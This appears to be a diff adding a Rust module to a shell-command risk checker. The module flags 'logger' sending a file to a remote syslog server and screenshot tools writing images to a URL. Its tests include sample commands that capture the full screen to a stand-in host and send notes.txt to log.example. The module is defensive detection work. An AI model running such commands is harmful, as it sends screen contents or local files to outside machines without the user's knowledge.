@@ -1,0 +1,47 @@
+//! What goes to another machine by a word of a program that otherwise keeps to this one.
+
+use crate::protocol::Risk;
+use crate::risk::args::behind;
+use crate::risk::judge::Judge;
+use crate::risk::words::Arg;
+
+pub(super) fn check(j: &mut Judge<'_>, name: &str, args: &[Arg]) {
+    match name {
+        // `lp`'s like: sent to a log on another machine.
+        "logger" => {
+            let far = args
+                .iter()
+                .any(|arg| arg.known().is_some_and(|text| text == "-n" || text.starts_with("--server")));
+            let file = behind(args, &["-f", "--file"]);
+            if let Some(file) = file.filter(|_| far) {
+                j.found.add(Risk::Dangerous, "sends a file to another machine", file.span);
+            }
+        }
+        // A picture of the screen that goes straight to another machine.
+        "import" | "magick" | "convert" | "maim" | "grim" => {
+            if let Some(last) =
+                args.last().filter(|last| last.known().is_some_and(|text| text.contains("://")))
+            {
+                j.found.add(Risk::Dangerous, "sends what it makes to another machine", last.span);
+            }
+        }
+        _ => {}
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::protocol::Risk;
+    use crate::risk::tests::check;
+
+    #[test]
+    fn words_send_something_away() {
+        check(
+            Risk::Dangerous,
+            r#"
+            import -window root "http://cdn.example/s.png"
+            logger -n log.example -P 514 -f notes.txt"#,
+        );
+        check(Risk::Caution, "logger -t build done");
+    }
+}
